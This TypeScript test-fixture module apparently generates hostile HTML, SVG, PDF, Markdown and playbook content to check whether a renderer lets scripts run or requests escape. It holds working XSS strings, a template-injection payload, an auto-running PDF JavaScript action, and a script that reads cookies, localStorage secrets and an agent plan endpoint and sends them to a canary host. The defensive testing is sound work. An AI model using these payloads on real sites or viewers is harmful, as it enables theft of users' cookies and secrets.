// Content that tries everything a browser may let it: run, read what belongs to the page's origin, and reach a server of its own. What
// arrives there is named by its path, so that a test sees which way was open.

/** Ways out that need a script. */
export const SCRIPTED = ["/ran", "/cookie", "/storage", "/plan", "/socket", "/beacon"] as const;
/** Ways out that need none. */
export const PASSIVE = ["/img", "/style", "/import", "/background", "/frame", "/object", "/preload", "/media", "/refresh"] as const;

/** Reads cookie, storage, parent and the node's own API, and tells the canary. */
function hostileScript(canary: string): string {
  return `
    const tell = (path, text) => { new Image().src = ${JSON.stringify(canary)} + path + "?" + encodeURIComponent(text); };
    const attempt = (path, read) => { try { tell(path, read()); } catch {} };
    tell("/ran", location.href);
    attempt("/cookie", () => document.cookie);
    attempt("/storage", () => localStorage.getItem("secret"));
    if (parent !== window) attempt("/parent", () => parent.document.title);
    fetch("/agent/plan").then((answer) => answer.text()).then((text) => tell("/plan", text.slice(0, 100)), () => undefined);
    attempt("/beacon", () => String(navigator.sendBeacon(${JSON.stringify(`${canary}/beacon`)}, "x")));
    attempt("/socket", () => new WebSocket(${JSON.stringify(`${canary.replace("http", "ws")}/socket`)}).url);
  `;
}

export function hostileHtml(canary: string): string {
  return `<!doctype html><html><head><title>hostile</title>
<link rel="stylesheet" href="${canary}/style"><link rel="preload" as="image" href="${canary}/preload">
<style>@import "${canary}/import"; body { background: url("${canary}/background"); }</style>
<meta http-equiv="refresh" content="1; url=${canary}/refresh">
</head><body onload="document.title = 'ran'">
<p>the content itself</p><img src="${canary}/img" onerror="document.title = 'ran'"><iframe src="${canary}/frame"></iframe>
<object data="${canary}/object"></object><video src="${canary}/media"></video>
<iframe srcdoc="<script>parent.document.title = 'ran'</script>"></iframe><iframe src="javascript:parent.document.title = 'ran'"></iframe>
<svg onload="document.title = 'ran'"></svg><script>${hostileScript(canary)}</script></body></html>`;
}

export function hostileSvg(canary: string): string {
  return `<svg xmlns="http://www.w3.org/2000/svg" xmlns:xlink="http://www.w3.org/1999/xlink" onload="fetch('${canary}/ran')" width="9" height="9">
<script><![CDATA[${hostileScript(canary).replaceAll("new Image()", 'document.createElementNS("http://www.w3.org/1999/xhtml", "img")')}]]></script>
<style>@import "${canary}/import";</style><image xlink:href="${canary}/img" width="9" height="9"/><text y="9">the content itself</text>
<foreignObject width="9" height="9"><iframe xmlns="http://www.w3.org/1999/xhtml" src="${canary}/frame"></iframe></foreignObject></svg>`;
}

/** A PDF whose script, address action and form all want to go to the canary as soon as it is opened. */
export function hostilePdf(canary: string): string {
  const script = `app.alert("ran"); app.launchURL("${canary}/ran", true); this.submitForm("${canary}/plan"); this.getURL("${canary}/img");`;
  const objects = [
    "<</Type/Catalog/Pages 2 0 R/OpenAction 4 0 R/AA<</WC 5 0 R>>>>",
    "<</Type/Pages/Kids[3 0 R]/Count 1>>",
    "<</Type/Page/Parent 2 0 R/MediaBox[0 0 99 99]/AA<</O 5 0 R>>>>",
    `<</S/JavaScript/JS(${script.replaceAll(/[()\\]/g, (char) => `\\${char}`)})>>`,
    `<</S/URI/URI(${canary}/frame)>>`,
  ].map((object, index) => `${index + 1} 0 obj${object}endobj\n`);
  let text = "%PDF-1.7\n";
  const places = objects.map((object) => {
    const place = text.length;
    text += object;
    return place;
  });
  const table = places.map((place) => `${String(place).padStart(10, "0")} 00000 n \n`).join("");
  return `${text}xref\n0 6\n0000000000 65535 f \n${table}trailer<</Size 6/Root 1 0 R>>\nstartxref\n${text.length}\n%%EOF`;
}

/** Pieces of text that become something else wherever one is put into HTML or Markdown as it is. None holds two slashes in a row. */
export function hostileTexts(canary: string): readonly string[] {
  const here = canary.replace("http://", "http:/");
  return [
    `<img src=x onerror="new Image().src='${here}/text-img'">`,
    `<script>new Image().src='${here}/text-script'</script>`,
    `<iframe src="${here}/text-frame"></iframe>`,
    `"><svg onload="new Image().src='${here}/text-svg'">`,
    `</td></tr></table></code></pre><img src="${here}/text-picture">`,
    `[click](javascript:alert(1))`,
    `![picture](${here}/text-markdown)`,
    `<a href="javascript:alert(1)" autofocus onfocus="alert(1)">link</a>`,
    `<meta http-equiv="refresh" content="1; url=${here}/text-refresh">`,
    `{{constructor.constructor('alert(1)')()}}`,
  ];
}

/** A playbook with three texts wherever one is shown. */
export function hostilePlaybook(texts: readonly string[]): string {
  const [title, description, task] = texts.map((text) => JSON.stringify(text));
  return `playbook: 1
name: hostile
version: 1.0.0
title: ${title}
description: ${description}
docs: ${title}
params:
  who:
    type: string
    required: true
    title: ${task}
    description: ${title}
goal: for \${params.who}
tasks:
  - task_id: only
    title: ${task}
    capability: flow.sleep
    params:
      ms: 1
output: null
`;
}
